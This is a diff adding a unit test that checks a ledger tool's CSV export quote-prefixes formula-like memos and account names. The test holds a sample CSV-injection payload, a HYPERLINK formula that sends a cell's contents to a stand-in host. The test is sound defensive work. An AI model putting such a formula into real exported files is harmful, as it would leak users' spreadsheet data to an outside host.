@@ -634,6 +634,23 @@ class Export(Base):
              "measure": "balance", "target": 1000},
         )
 
+    def test_free_text_is_not_a_formula(self):
+        # A memo or a name from elsewhere that a spreadsheet would run as a formula is
+        # written after a quote; amounts, negative ones included, are written as they are.
+        formula = '=HYPERLINK("http://example.invalid/?"&A1,"x")'
+        self.apply({"op": "account", "id": "fund.other", "unit": "USD", "name": "@SUM(1)"},
+                   {"op": "transfer", "id": "t-f", "debit": "fund.pool", "credit": "fund.other",
+                    "amount": 7, "memo": formula})
+        _, rows, _ = self.export("csv", "--what", "transfers")
+        row = next(r for r in rows if r["id"] == "t-f")
+        self.assertEqual(row["memo"], "'" + formula)
+        self.assertEqual(row["amount"], "0.07")
+        _, balances, _ = self.export("csv", "--what", "balances")
+        other = next(r for r in balances if r["id"] == "fund.other")
+        self.assertEqual(other["name"], "'@SUM(1)")
+        pool = next(r for r in balances if r["id"] == "fund.pool")
+        self.assertTrue(pool["net_posted"].startswith("-"), pool)
+
     def test_transfers_match_transfer_show(self):
         self.imported(fts("fts_internal_funding_jor.csv"))
         header, rows, _ = self.export("csv", "--what", "transfers")
